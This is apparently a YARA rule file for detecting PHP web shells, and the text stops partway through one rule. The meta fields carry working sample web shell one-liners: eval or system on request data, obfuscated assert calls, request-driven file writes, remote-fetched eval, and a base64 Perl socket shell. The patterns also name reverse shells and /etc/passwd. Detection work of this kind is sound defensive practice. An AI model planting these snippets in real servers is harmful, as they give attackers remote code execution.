// Asked where there is one of: <? language="php" language='php' language=php
// Web shells in PHP, by what their text does. Language facts: the PHP manual (variables from
// outside, program execution, eval, callbacks, filesystem functions).

private rule php_page
{
    strings:
        $full = /<\?(php|=)/ nocase
        $script = /<script[^>]{1,60}php/ nocase
        $short = /<\?([^imx=]|i[^m]|m[ay])/ nocase
        $asp = /<%@\s*(language|page|control|webhandler|webservice|master|codepage|import)\b|<!--\s*#include\s|<%\s*(dim|option\s+explicit|set\s)|\b(server\.createobject|response\.write)\b/ nocase
    condition:
        filesize < 2MB and ($full or $script or ($short and not $asp))
}

rule php_runs_request : webshell php
{
    meta:
        description = "PHP that evaluates what a request brings, or runs it as a command"
        level = "critical"
        source = "PHP manual: eval, assert, program execution functions, superglobals"
        match = "<?php @eval ( $_POST['x'] ); ?>"
        match_2 = "<?php system(base64_decode($_REQUEST[\"c\"])); ?>"
        near_miss = "<?php $page = $_GET['page']; echo htmlspecialchars($page); system('uptime'); ?>"
    strings:
        $direct = /\b(eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|include|include_once|require|require_once)(\s|\/\*[^*]{0,40}\*\/)*\(?[\s@("'.]{0,12}((stripslashes|stripcslashes|base64_decode|trim|urldecode|rawurldecode|gzinflate|gzuncompress|str_rot13|strrev|hex2bin|strval|implode|join|end|reset|current|array_pop|array_shift)\s*\(\s*){0,4}@?[("'{]{0,3}\$\{?['"]?_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b/ nocase
        $backtick = /`[^`\n]{0,40}\$\{?_(GET|POST|REQUEST|COOKIE)\b[^`\n]{0,40}`/ nocase
        $called = /\$\{?_(GET|POST|REQUEST|COOKIE|SERVER)\}?\s*[\[{][^\]}\n]{0,40}[\]}]\s*\(/ nocase
        $input = /\b(eval|assert|system|exec|passthru|shell_exec)\s*\([^;]{0,60}php:\/\/input/ nocase
        $headers = /\b(eval|assert|system|exec|passthru|shell_exec)\s*\([^;]{0,60}(getallheaders|apache_request_headers|getenv)\s*\(/ nocase
    condition:
        php_page and any of them
}

rule php_runs_assigned_request : webshell php
{
    meta:
        description = "PHP that puts a part of the request in a variable and runs that"
        level = "critical"
        source = "PHP manual: eval, program execution functions, superglobals"
        match = "<?php $c = @$_GET['c']; $r = 1; @passthru($c); ?>"
        near_miss = "<?php $c = $_GET['c']; $d = load($c); passthru($cmdline); ?>"
    strings:
        $short = /\$(\w{1,20})\s*=\s*@?\(?\s*((stripslashes|base64_decode|trim|urldecode|str_rot13|gzinflate|hex2bin|strrev)\s*\(\s*){0,3}\$\{?_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $run = /\b(eval|assert|system|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(\s*["']?\s*@?\s*\$(c|k|a|b|d|e|f|p|s|x|z|cmd|command|code|exec|evalcode|_cmd|run|in|q|shell|payload|data|str|key|pass|to_exec|execute)\s*[\)\.,;"]/ nocase
        $exec = /[^\w>:]exec\s*\(\s*["']?\s*\$(c|k|a|b|d|e|f|p|s|x|z|cmd|command|code|exec|_cmd|run|in|q|shell)\s*[\)\.,;"]/ nocase
    condition:
        php_page and filesize < 300KB and $short and ($run or $exec)
}

rule php_small_runner : webshell php
{
    meta:
        description = "Small PHP page that takes a request and runs a variable as code or command"
        level = "high"
        source = "PHP manual: program execution functions, variable functions, callbacks, COM"
        match = "<?php function run($com) { exec($com, $out); } $cmd = $_POST['cmd']; run($cmd); ?>"
        match_2 = "<?php $x = base64_decode('cGhw'); $x($_POST['c']); ?>"
        near_miss = "<?php $name = $_POST['name']; $row = $db->exec($name); echo strtoupper($_POST['x']); ?>"
    strings:
        $request = /\$\{?_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|getallheaders|php:\/\/input|\$HTTP_(GET|POST|RAW)/ nocase
        $run = /[^\w>:$\\](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(\s*["']?\s*@?[($"'{\s]{0,4}\$/ nocase
        $called = /[;{}\s@=(]\$\{?["']?\w{1,30}["']?\}?(\[[^\]\n]{1,20}\])?\s*\(\s*["']{0,2}\s*[,.]?\s*(\w{1,20}\s*\(\s*)?@?\$\{?_(GET|POST|REQUEST|COOKIE|FILES)\b/ nocase
        $com = /new\s+COM\s*\(\s*['"]W[^)]{0,24}sc?['".]{0,4}h?/ nocase
        $variable_callback = /\b(array_map|array_filter|array_walk|usort|uasort|uksort|array_udiff|array_diff_uassoc|array_reduce|array_uintersect|array_diff_ukey|array_intersect_ukey|call_user_func|call_user_func_array|createFunction|register_shutdown_function|preg_replace_callback|ob_start|mb_ereg_replace|preg_replace|preg_filter)\s*\([^;]{0,60}\$(e|f|func|fun|a|b|x|c|cmd|callback)\b/ nocase
        $fixed_callback = /\b(array_map|array_filter|array_walk|usort|call_user_func|call_user_func_array|array_udiff|\w{3,20})\s*\(\s*["'](assert|system|exec|passthru|eval|shell_exec|base64_decode)["']\s*,/ nocase
        $name = /=\s*["'](ass?e?r?t?|asser|syste?m?|eva?l?|create_function|passthru|shell_exec)["']\s*[;.]/ nocase
        $framework = /\b(namespace\s+\w|extends\s+\w|use\s+\w+\\)/
    condition:
        php_page and filesize < 6KB and $request and not $framework and
        (any of ($run, $called, $com, $fixed_callback, $name) or ($variable_callback and filesize < 1KB))
}

rule php_calls_by_request : webshell php
{
    meta:
        description = "PHP that hands request data to a function that calls it or runs it"
        level = "high"
        source = "PHP manual: callbacks, preg_replace (modifier e)"
        match = "<?php array_map($_GET['f'], array($_POST['a'])); ?>"
        match_2 = "<?php @preg_replace('/x/e', $_POST['x'], 'x'); ?>"
        near_miss = "<?php $names = array_map('trim', explode(',', $_POST['names'])); ?>"
    strings:
        $callback = /\b(call_user_func|call_user_func_array|array_map|array_walk|array_walk_recursive|array_filter|array_reduce|array_diff_uassoc|array_udiff|array_uintersect|usort|uasort|uksort|register_shutdown_function|register_tick_function|ob_start|preg_replace_callback|iterator_apply|spl_autoload_register|set_error_handler|forward_static_call|forward_static_call_array|filter_var|filter_var_array|mb_ereg_replace)\s*\(\s*@?((base64_decode|str_rot13|strrev|trim)\s*\(\s*)?\$\{?_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $named = /\b(call_user_func|call_user_func_array|array_map|array_walk|array_filter|array_reduce|usort|uasort|uksort|register_shutdown_function|forward_static_call|array_udiff|array_diff_ukey|filter_var)\s*\([^;]{0,80}["'](ass\W{0,9}ert|eval|system|exec|passthru|shell_exec|create_function)["'][^;]{0,120}(;|\$)/ nocase
        $replace = /\b(preg_replace|preg_filter|mb_ereg_replace|mb_eregi_replace|mb_regex_set_options|preg_replace_callback)\s*\(\s*["'][^"'\n]{0,60}["']?[\/#~|!@%\])}][imsxuADSUXJ]{0,6}e[imsxuADSUXJ]{0,6}["'][^;]{0,120}(\$_(GET|POST|REQUEST|COOKIE)|eval|\\x65|\$\w+)/ nocase
        $function = /\bnew\s+ReflectionFunction\s*\(\s*["'@$]?(_?GET|_?POST|_?REQUEST|ass|sys|\w*exec)/ nocase
    condition:
        php_page and filesize < 500KB and any of them
}

rule php_runs_hidden_code : webshell php
{
    meta:
        description = "PHP that evaluates code which is packed or encoded in the page"
        level = "high"
        source = "PHP manual: eval, gzinflate, base64_decode, str_rot13, create_function"
        match = "<?php eval(gzinflate(base64_decode('80jNyclXCM8vyklRBAA='))); ?>"
        near_miss = "<?php $picture = base64_decode($row['picture']); echo gzinflate($picture); ?>"
    strings:
        $eval = /\b(eval|assert|create_function)\s*\(?[\s@("'.?><php]{0,24}\(?\s*(gzinflate|gzuncompress|gzdecode|bzdecompress|str_rot13|base64_decode|strrev|rawurldecode|urldecode|convert_uudecode|pack|hex2bin|implode|str_replace|strtr|substr|chr|join)\s*\(/ nocase
        $chain = /(gzinflate|gzuncompress|gzdecode|str_rot13|strrev)\s*\(\s*(str_rot13|base64_decode|strrev|gzinflate)\s*\(\s*["'][A-Za-z0-9+\/]{80}/ nocase
        $eval_var = /\b(eval|assert)\s*\(\s*["']?\s*(\?>["'.\s]{0,5})?\s*\$\w{1,30}\s*(\(|\.|\)|;|\[)/ nocase
        $class = /\n\s*(abstract\s+|final\s+)?class\s+\w+/
        $unpack = /\b(gzinflate|gzuncompress|base64_decode|str_rot13|convert_uudecode|strrev|pack|hex2bin|create_function)\b/ nocase
    condition:
        php_page and ($eval or $chain or ($eval_var and $unpack and not $class))
}

rule php_packed : webshell php
{
    meta:
        description = "PHP packed by a tool for hiding code: hardly a line that can be read, and code that unpacks and runs it"
        level = "medium"
        source = "the texts that such tools write; PHP manual: goto, eval"
        match = "<?php /* Obfuscation provided by FOPO - Free Online PHP Obfuscator */ @eval($i(\"x\")); ?>"
        near_miss = "<?php /* obfuscates mail addresses */ echo str_rot13($mail); ?>"
    strings:
        $tool = /Obfuscation provided by (FOPO|Unknowndevice64)|Obfuscated by YAK Pro|PHPDP\.COM|phpjiami|weevely|MZG_PHPDP|PHP Encode by|Encoded? (by|with) (http|www)|Reverse engineering of this file is strictly prohibited|code decryption<<==|decryption code==+>>/ nocase
        $goto = /goto\s+\w{3,8};\s*\w{3,8}:\s/
        $zero = /\$[O0_]{5,40}\s*=/
        $index = /\$\w+\{\d+\}\s*\.\s*\$\w+\{\d+\}/
        $table = /["'][A-Za-z0-9_\/*.%\-]{30,80}["']\s*;[^;]{0,60}\[\d+\]\s*\.\s*\$\w+\[\d+\]/
        $run = /[^\w>:$](eval|assert|create_function|preg_replace)\s*\(|[;{}\s@=(]\$\w{1,40}\s*\(\s*["'$]/ nocase
        $own = /(eval|assert)\s*\(\s*\w{1,30}\s*\(\s*["'][A-Za-z0-9+\/=]{60}/ nocase
    condition:
        php_page and (($tool and $run) or #goto > 20 or (#zero > 3 and $run and $index) or $own or ($table and $run))
}

rule php_hides_names : webshell php
{
    meta:
        description = "PHP that builds the names of functions or variables from pieces so that they cannot be read"
        level = "high"
        source = "PHP manual: strings (escapes), bitwise operators on strings, variable functions"
        match = "<?php $f = 'a'.'s'.'s'.'e'.'r'.'t'; $f('1'); ?>"
        match_2 = "<?php $a = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $a('id'); ?>"
        near_miss = "<?php $sql = 'select '.$a.' from '.$b; $bell = \"\\x07\"; ?>"
    strings:
        $hex = /\\x(65|45)\\x(76|56)\\x(61|41)\\x(6c|4c)|\\x(73|53)\\x(79|59)\\x(73|53)\\x(74|54)\\x(65|45)\\x(6d|4d)|\\x(61|41)\\x(73|53)\\x(73|53)\\x(65|45)\\x(72|52)\\x(74|54)|\\x(62|42)\\x(61|41)\\x(73|53)\\x(65|45)\\x36\\x34|\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53|\\x5f\\x(50|47|52)\\x(4f|45)\\x(53|54|51)/ nocase
        $octal = /\\145\\166\\141\\154|\\163\\171\\163\\164\\145\\155|\\141\\163\\163\\145\\162\\164|\\142\\141\\163\\145\\66\\64|\\137\\120\\117\\123\\124/
        $com = /new\s+COM\s*\(\s*['"]W['"]?\s*\.|base['"]\s*\.\s*\(\s*\d+\s*\*/ nocase
        $split = /['"]a['"]\s*\.\s*['"]s['"]?\s*\.?\s*['"]?s['"]?\s*\.?\s*['"]?e['"]?\s*\.?\s*['"]?r|['"]as['"]\s*\.\s*['"]s\w*['"]|['"]ass['"]\s*\.\s*['"]e?r?t?['"]|['"]asse['"]\s*\.\s*['"]rt|['"]ba?s?e?['"]\s*\.\s*['"]a?s?e?6?['"]?\s*\.?\s*['"]?4?_d|['"]sys['"]\s*\.\s*['"]tem|['"]ev['"]\s*\.\s*['"]al|['"]ba['"]\s*\.\s*['"]se|['"]base6['"]\s*\.\s*['"]4|['"]create['"]\s*\.\s*['"]_|['"]_P['"]?\s*\.\s*['"]OS?T?|['"]cr['"]\s*\.\s*['"]eat/ nocase
        $chr = /chr\s*\(\s*\d{2,3}\s*\)\s*\.\s*chr\s*\(\s*\d{2,3}\s*\)\s*\.\s*chr\s*\(\s*\d{2,3}\s*\)\s*\.\s*chr\s*\(\s*\d{2,3}\s*\)/ nocase
        $xor = /["'][^"'\n]{1,12}["']\s*\^\s*["'][^"'\n]{1,12}["']/
        $xor_var = /\(\s*["'`][^"'`\n]{1,40}["'`]\s*\^\s*["'`]/
        $not = /\(?~\s*["'\(][^"'\n]{0,3}[\x80-\xff]{2,}/
        $dispatch = /\$\{\s*["'](\\x|_|G|\w+["']\s*\.)/
        $called_index = /\$\w{1,20}\s*[\[{]\s*\d{1,3}\s*[\]}]\s*\.\s*\$\w{1,20}\s*[\[{]\s*\d{1,3}\s*[\]}]\s*\.\s*\$\w{1,20}\s*[\[{]\s*\d{1,3}\s*[\]}]\s*\./
        $increment = /\$_+\+\+\s*;\s*\$_+\+\+/
        $rep = /str_replace\s*\(\s*["'](\w{1,12}|[^\w\s]{1,3})["']\s*,\s*["']{2}\s*,\s*["'][^"'\n]{0,60}(a\W?\w{0,6}s\W?\w{0,6}s|c\w{0,6}r\w{0,6}e\w{0,6}a|b\w{0,6}a\w{0,6}s\w{0,6}e\w{0,6}6)/ nocase
        $rot = /str_rot13\s*\(\s*["'](riny|nffreg|flfgrz|onfr64|rkrp|cnffgueh|furyy)/ nocase
        $rev = /strrev\s*\(\s*["']?(lave|tressa|metsys|edoced|cexe|urhtssap|noitcnuf|_46esab|etalfnizg|ecalper_gerp)/ nocase
        $parts = /["']\s*\.\s*["'][^"'\n]{1,3}["']\s*\.\s*["'][^"'\n]{1,3}["']\s*\.\s*["'][^"'\n]{1,3}["']\s*\.\s*["']/
        $var_call = /[;{}\s@=(]\$\{?["']?\w{1,30}["']?\}?(\[[^\]\n]{1,20}\])?\s*\(\s*["'@$]/
    condition:
        php_page and filesize < 500KB and
        (any of ($com, $hex, $octal, $split, $rot, $rev, $rep) or
         (any of ($xor, $xor_var, $not, $called_index, $increment, $chr, $parts) and $var_call and filesize < 100KB and any of ($xor_var, $not, $called_index, $increment, $chr)) or
         ($dispatch and $var_call and filesize < 100KB))
}

rule php_writes_request : webshell php
{
    meta:
        description = "Small PHP page that writes what a request brings into a file"
        level = "high"
        source = "PHP manual: file_put_contents, fwrite, move_uploaded_file"
        match = "<?php file_put_contents($_POST['f'], base64_decode($_POST['d'])); ?>"
        near_miss = "<?php file_put_contents('/var/log/app.log', date('c'), FILE_APPEND); ?>"
    strings:
        $put = /\b(file_put_contents|fwrite|fputs|copy|rename|move_uploaded_file)\s*\(\s*[^;]{0,80}\$\{?_(POST|GET|REQUEST|COOKIE)\b/ nocase
        $fopen = /\bfopen\s*\(\s*@?\{?\$_(POST|GET|REQUEST)\b[^;]{0,40}["']?[wa]/ nocase
        $upload = /\b(move_uploaded_file|copy)\s*\(\s*@?\$_FILES\b/ nocase
        $field = /<input[^>]{0,80}type\s*=\s*\\?["']?file/ nocase
        $self = /\b(PHP_SELF|getcwd|php_uname|__FILE__|SCRIPT_NAME)\b/
        $fetch = /\b(file_put_contents|fwrite|fputs)\s*\([^;]{0,60}(file_get_contents|curl_exec)\s*\(\s*["']?(https?:|\$_)/ nocase
    condition:
        php_page and filesize < 12KB and ($put or $fopen or $fetch or ($upload and ($field or $self)))
}

rule php_console : webshell php
{
    meta:
        description = "PHP page that asks the system, runs commands and handles files: a console for an intruder"
        level = "high"
        source = "PHP manual: program execution, filesystem, POSIX and options functions"
        match = "<?php $_POST; php_uname(); shell_exec($x); passthru($x); posix_getpwuid(1); fileperms($f); ini_get('disable_functions'); move_uploaded_file($a,$b); chmod($f,0644); fsockopen($h,1); ?>"
        near_miss = "<?php echo php_uname(); if (is_writable($f)) chmod($f, 0644); ?>"
    strings:
        $run_1 = /\bshell_exec\s*\(/ nocase
        $run_2 = /\bpassthru\s*\(/ nocase
        $run_3 = /\bproc_open\s*\(/ nocase
        $run_4 = /[^\w>:]popen\s*\(/ nocase
        $run_5 = /[^\w>:]system\s*\(/ nocase
        $run_6 = /[^\w>:$]exec\s*\(/ nocase
        $run_7 = /[^\w>:]eval\s*\(/ nocase
        $ask_1 = "php_uname" nocase
        $ask_2 = "posix_getpwuid" nocase
        $ask_3 = "disable_functions" nocase
        $ask_4 = "safe_mode" nocase
        $ask_5 = "open_basedir" nocase
        $ask_6 = "/etc/passwd" nocase
        $ask_7 = "getmyuid" nocase
        $ask_8 = "get_current_user" nocase
        $ask_9 = "disk_free_space" nocase
        $ask_10 = "SERVER_SOFTWARE" nocase
        $file_1 = "fileperms" nocase
        $file_2 = "move_uploaded_file" nocase
        $file_3 = /\bchmod\s*\(/ nocase
        $file_4 = /\brmdir\s*\(/ nocase
        $file_5 = /\bunlink\s*\(/ nocase
        $file_6 = /\bopendir\s*\(|\bscandir\s*\(/ nocase
        $file_7 = /\b(fwrite|fputs|file_put_contents)\s*\(/ nocase
        $net_3 = /back\s?connect|reverse\s?shell|bind\s?port|bindshell/ nocase
        $request = /\$_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|\$HTTP_/
        $class = /\n\s*(abstract\s+|final\s+)?class\s+\w+[^{\n]{0,80}\n?\s*\{/
        $space = /\n\s*namespace\s+\w/
    condition:
        php_page and filesize < 600KB and not $space and $request and
        ((2 of ($run_*) and 3 of ($ask_*) and 3 of ($file_*)) or
         (3 of ($run_*) and 2 of ($ask_*) and 2 of ($file_*)) or
         (1 of ($run_*) and $net_3 and 2 of ($ask_*)) or
         (4 of ($file_*) and 2 of ($ask_1, $ask_2, $ask_3, $ask_6, $ask_7, $ask_9) and 1 of ($run_*)) or
         (4 of ($file_*) and $file_1 and $file_3 and $file_2 and not $class and filesize < 150KB)) and
        (not $class or 2 of ($run_*))
}

rule php_known_name : webshell php
{
    meta:
        description = "PHP page that carries the name of a known web shell"
        level = "high"
        source = "the names that public web shells show of themselves"
        match = "<?php $shver = 'c99shell v1'; passthru($x); ?>"
        near_miss = "<?php /* 99 shells on the beach */ ?>"
    strings:
        $a = /\b(c99|r57|c100|n3tshell|b374k|wso\s?2|wso_version|filesman|filestools|weevely|alfa\s?(team|shell)|indoxploit|0byt3m1n1|priv8\s?(shell|mini)|madspot|nstview|phpspy|angel\s?shell|locus7s|k2ll33d|mini\s?shell|phpshell|php\s?file\s?manager\s?shell|antichat|rst\s?\/\s?ghc|ghc\s?\/?\s?rst|safe0ver|dtool|ajax\/php\s?command\s?shell|nixshell|cyber\s?shell|simattacker|webr00t|h4cker|hacked by|defac(e|ed) by|milw0rm|exploit-db|webshell|web\s?shell|backdoor)(shell)?/ nocase
        $run = /\b(eval|assert|system|exec|passthru|shell_exec|popen|proc_open|base64_decode|gzinflate|move_uploaded_file|fopen|file_put_contents)\b/ nocase
    condition:
        php_page and filesize < 600KB and #a > 0 and $run and
        for any i in (1..#a) : (@a[i] < 3000 or i > 2)
}

rule php_passes_request_on : webshell php
{
    meta:
        description = "PHP that passes a request through a function of its own, or into a command line, and runs it"
        level = "critical"
        source = "PHP manual: eval, program execution functions, string operators"
        match = "<?php function own($t) { return stripslashes($t); } eval(own($_POST['cmd'])); ?>"
        match_2 = "<?php passthru('echo '.$_REQUEST['text'].' >> '.$_REQUEST['file']); ?>"
        match_3 = "<?php $page=$_GET['page']; include ($page); ?>"
        near_miss = "<?php $page = $_GET['page']; include 'pages/about.php'; system('wc -c '.escapeshellarg($_GET['f'])); ?>"
    strings:
        $own = /\b(eval|assert|eval_r)\s*\(\s*@?(\w{1,30}\s*\(\s*)?\$_(GET|POST|REQUEST|COOKIE)/ nocase
        $line = /\b(system|exec|passthru|shell_exec|popen|proc_open)\s*\(\s*["'][^"'\n;]{0,60}(["']\s*\.\s*)?@?[{(]?\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $next = /=\s*@?\$_(GET|POST|REQUEST|COOKIE)\s*[\[{][^\]\n]{1,30}[\]}]\s*;\s*@?(eval|assert|system|exec|passthru|shell_exec|include|require|include_once|require_once)\s*\(?\s*["'\\\w\s=]{0,20}\$\w{1,20}\s*["';)]/ nocase
    condition:
        php_page and filesize < 500KB and any of them
}

rule php_rare_callback : webshell php
{
    meta:
        description = "Small PHP page that hands a request to a function it got by name, by a callback that hardly anybody uses"
        level = "high"
        source = "PHP manual: callbacks of array functions, Reflection, SQLite and YAML, modifier e"
        match = "<?php array_udiff_assoc(array($_REQUEST['x']), array(1), \"assert\"); ?>"
        match_2 = "<?php mb_ereg_replace('.*', $_REQUEST['x'], '', 'e'); ?>"
        match_3 = "<?php $p = json_decode($_GET['p'], true); $f = new ReflectionFunction($p['a']); $f->invoke($p['b']); ?>"
        near_miss = "<?php array_walk_recursive($_POST, 'clean'); $r = new ReflectionFunction('clean'); mb_ereg_replace('x', $_POST['a'], '', 'i'); ?>"
    strings:
        $request = /\$\{?_(GET|POST|REQUEST|COOKIE|SERVER)\b/
        $ereg = /\bmb_eregi?_replace\s*\([^;]{0,80}["'][imsxplr]{0,4}e[imsxplr]{0,4}["']\s*\)/ nocase
        $array = /\b(array_u?diff_u?assoc|array_u?intersect_u?assoc|array_diff_ukey|array_intersect_ukey|array_walk_recursive|register_tick_function)\s*\([^;]{0,120},\s*(\$\w{1,20}|["'](assert|system|exec|passthru|eval|shell_exec)["'])\s*[,)]/ nocase
        $array_1 = /\bregister_tick_function\s*\(\s*\$/ nocase
        $reflect = /new\s+ReflectionFunction\s*\(\s*\$/ nocase
        $closure = /Closure::fromCallable\s*\(\s*\$\w{1,30}\s*\)/ nocase
        $base = /\bsqlite_?create_?function\s*\(\s*(\$\w{1,10}\s*,\s*)?["'][^"']{1,20}["']\s*,\s*\$/ nocase
        $yaml = /\byaml_parse\s*\([^;]{0,120}["'](preg_replace|assert|system|exec|passthru)["']/ nocase
        $escaped = /\barray_map\s*\(\s*["']\w{0,6}\\?x[67][0-9a-f]\w{0,8}["']\s*,/ nocase
        $replace = /\bpreg_replace\s*\(\s*["'][\/#~|!@%][^"'\n]{0,40}[\/#~|!@%][imsxu]{0,4}e[imsxu]{0,4}["']\s*,\s*@?\w{1,30}\s*\(/ nocase
        $start = /\b(ob_start|array_filter|array_map)\s*\([^;]{0,40}(\$s|base64_decode\s*\(\s*\$\w{1,20}\s*\))\s*\)/ nocase
        $make = /\bcreate_function\s*\(\s*(''|"")\s*,\s*\$/ nocase
        $extract = /\bextract\s*\(\s*\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $each = /array\s*\(\s*["']_(POST|GET|COOKIE|REQUEST)["']\s*,\s*["']_(POST|GET|COOKIE|REQUEST)["']/ nocase
        $call = /[;{}\s@=(]\$\w{1,30}\s*\(\s*["'@$]/
        $space = /\n\s*namespace\s+\w/
    condition:
        php_page and filesize < 3KB and ($request or $each) and not $space and
        (any of ($ereg, $array*, $reflect, $closure, $base, $yaml, $escaped, $replace, $start, $make) or
         (($extract or $each) and $call))
}

rule php_runs_decoded : webshell php
{
    meta:
        description = "PHP that evaluates what a function of its own, or one whose name is in a variable, makes of hidden text"
        level = "high"
        source = "PHP manual: eval, create_function, base64_decode, ord"
        match = "<?php function own($a,$b){ return base64_decode(strtr($a,$b)); } eval/*x*/(own($text, $table)); ?>"
        match_2 = "<?php $x=@gzinflate($x); $f=create_function('',$x); $f(); ?>"
        near_miss = "<?php function own($a) { return base64_decode($a); } echo own($text); eval('return 1;'); ?>"
    strings:
        $own = /\b(eval|assert)\s*(\/\*\w{0,30}\*\/)?\s*\(\s*\w{3,30}\s*\(\s*\$\w{1,40}\s*(,\s*\$\w{1,40}\s*)?\)\s*\)/ nocase
        $inner = /\b(eval|assert)\s*\(\s*\w{1,30}\s*\(\s*(gzinflate|gzuncompress|base64_decode|str_rot13|strrev|file_get_contents)\s*\(/ nocase
        $literal = /\b(eval|assert)\s*\(\s*(\w{1,30}|\$\w{1,60})\s*\(\s*(\w{1,30}\s*\(\s*)?["'][^"'\n$ ]{60}/ nocase
        $assign = /\beval\s*\(\s*\$\w{1,30}\s*=\s*&\s*\$/ nocase
        $index = /\beval\s*(\/\*\w{0,30}\*\/)?\s*\(\s*\$\w{1,30}\s*\[\s*\$(GLOBALS|\w{1,30})\s*[\[{]/ nocase
        $bytes = /\beval\s*\(\s*\$[\x80-\xff_]{3}/ nocase
        $make = /\bcreate_function\s*\(\s*(''|""|["']\$\w{1,20}["'])\s*,\s*(\$|\w{1,30}\s*\(\s*(\w{1,30}\s*\(\s*)?["'$]|\w{1,30}\s*\(\s*base64_decode)/ nocase
        $made = /\$\w{1,30}\s*\(\s*(''|"")\s*,\s*\$\w{1,30}\s*\(\s*\$\w{1,30}\s*\)\s*\)/
        $unpack = /\b(gzinflate|gzuncompress|base64_decode|str_rot13|convert_uudecode|strrev|pack|hex2bin|chr|strtr|dechex)\s*\(/ nocase
        $name = /["']base64_decode["']/ nocase
        $class = /\n\s*(abstract\s+|final\s+)?class\s+\w+/
    condition:
        php_page and ($inner or $literal or $assign or $index or $bytes or $made or
                      (($own or $make) and ($unpack or $name) and not $class))
}

rule php_runs_fetched : webshell php
{
    meta:
        description = "PHP that evaluates what it reads from a file or fetches from elsewhere"
        level = "high"
        source = "PHP manual: eval, file_get_contents"
        match = "<?php eval(trim(substr(file_get_contents('http://example.org/k.gif'),293))); ?>"
        near_miss = "<?php $text = file_get_contents('http://example.org/k.txt'); echo $text; ?>"
    strings:
        $eval = /\b(eval|assert)\s*\(\s*((trim|substr|base64_decode|gzinflate|gzuncompress|stripslashes)\s*\(\s*){0,3}@?(file_get_contents|fread|fgets|curl_exec|stream_get_contents)\s*\(/ nocase
    condition:
        php_page and filesize < 200KB and $eval
}

rule php_escapes_names : webshell php
{
    meta:
        description = "PHP that writes names of variables or functions in escapes, with strings joined bit by bit or in bytes that are no letters"
        level = "high"
        source = "PHP manual: strings (escapes), variable variables, bitwise operators on strings"
        match = "<?php ${\"\\x47\\x4c\\x4fB\\x41\\x4c\\x53\"}['a'] = 1; ?>"
        match_2 = "<?php class A { function __destruct(){ $f='/ng_*~X}'^\"\\x4c\\x1c\\x2\\x3e\\x5e\"; $f=$f('',$this->a); } } ?>"
        match_3 = "<?php $c=\"c\".\"o\".\"p\".\"y\"; $c($from, $to); ?>"
        near_miss = "<?php $c=\"c\".\"o\"; $bell=\"\\x07\\x1b\"; $n=${'name'}; $x = $a ^ $b; strlen($c); ?>"
    strings:
        $variable = /\$\{\s*["']\w{0,3}(\\x[0-9a-f]{2}|\\[0-7]{2,3})[\\\w]{0,80}["']\s*\}/ nocase
        $xor = /["']\s*\^\s*["'](\\x[0-9a-f]{1,2}){4}/ nocase
        $mixed = /(\\x[2-7][0-9a-f]\\1?[0-7]{2}\\|\\1?[0-7]{2}\\x[2-7][0-9a-f]\\)/ nocase
        $letters = /["']\w["']\s*\.\s*["']\w["']\s*\.\s*["']\w["']\s*\.\s*["']\w["']/
        $code = /["']\w{0,12}["']?\s*\.\s*chr\s*\(\s*(9\d|1[0-2]\d)\s*\)\s*\.\s*["']\w{1,12}["']\s*\.\s*chr\s*\(\s*(9\d|1[0-2]\d)\s*\)/ nocase
        $piece = /["'](se64_decode|e64_decode|64_decode|4_decode|64_dec|64_de|base64_|base64_de|base64_d|_de['"]\s*\.\s*['"]code|create_fun|create_)["']/ nocase
        $named = /function\s+[\x80-\xff]{1,3}\d{0,4}[\x80-\xff]{0,3}\s*\(\s*&?\$[\x80-\xff]/
        $eval = /[^\w>:$](eval|assert|preg_replace)\s*\(\s*["'$]/ nocase
        $call = /[;{}\s@=(]\$\w{1,40}\s*\(\s*["'@$]/
    condition:
        php_page and ($variable or #mixed > 5 or ($named and $call) or ($named and filesize < 100KB) or
                      ($xor and filesize < 100KB) or
                      (($letters or $code) and ($call or $eval) and filesize < 100KB) or ($piece and $call and filesize < 500KB))
}

rule php_carries_program : webshell php
{
    meta:
        description = "PHP that carries a program, or the source of one for the network, and writes it out"
        level = "high"
        source = "the beginnings of ELF, PE, Perl and C files in base64; PHP manual: base64_decode, fwrite"
        match = "<?php $c=\"IyEvdXNyL2Jpbi9wZXJsDQp1c2UgU29ja2V0Ow0KdXNlIElPOjpIYW5kbGU7DQokY21kPSJ4IjsN\"; fwrite($f, base64_decode($c)); ?>"
        match_2 = "<?php $s='use Socket; setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1); exec(\"/bin/sh\");'; fwrite(fopen('/tmp/x.pl','w'),$s); ?>"
        near_miss = "<?php $c=\"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\"; fwrite($f, base64_decode($c)); ?>"
    strings:
        $base = /["'](I2luY2x1ZGUgP|IyEvdXNyL2Jpbi|IyEvYmlu|TVqQAAMAAAAEAAAA|TVpQAAIAAAAEAA8A|f0VMRg)[A-Za-z0-9+\/\s]{40}/
        $perl = /SOL_SOCKET\s*,\s*SO_REUSEADDR/
        $c = /#include\s*<(sys\/socket|netinet\/in)\.h>/
        $shell = "/bin/sh"
        $write = /\b(fwrite|fputs|file_put_contents|base64_decode)\s*\(/ nocase
        $hex = /0x4D5A[0-9A-F]{100}/ nocase
        $dump = /\b(into\s+dumpfile|create\s+function)\b/ nocase
        $space = /\n\s*namespace\s+\w/
    condition:
        php_page and not $space and (($base and $write) or (($perl or $c) and $shell and $write) or ($hex and $dump))
}

rule php_runs_somehow : webshell php
{
    meta:
        description = "PHP that tries one function after another until one runs a command"
        level = "high"
        source = "PHP manual: program execution functions, function_exists"
        match = "<?php function ex($c) { if (function_exists('exec')) { @exec($c,$o); } elseif (function_exists('passthru')) { @passthru($c); } elseif (function_exists('system')) { @system($c); } else { shell_exec($c); } } ?>"
        near_miss = "<?php if (function_exists('exec')) { exec('git describe', $o); } ?>"
    strings:
        $exec = /[^\w>:$\\]exec\s*\(\s*\$/ nocase
        $shell = /\bshell_exec\s*\(\s*\$/ nocase
        $system = /[^\w>:$\\]system\s*\(\s*\$/ nocase
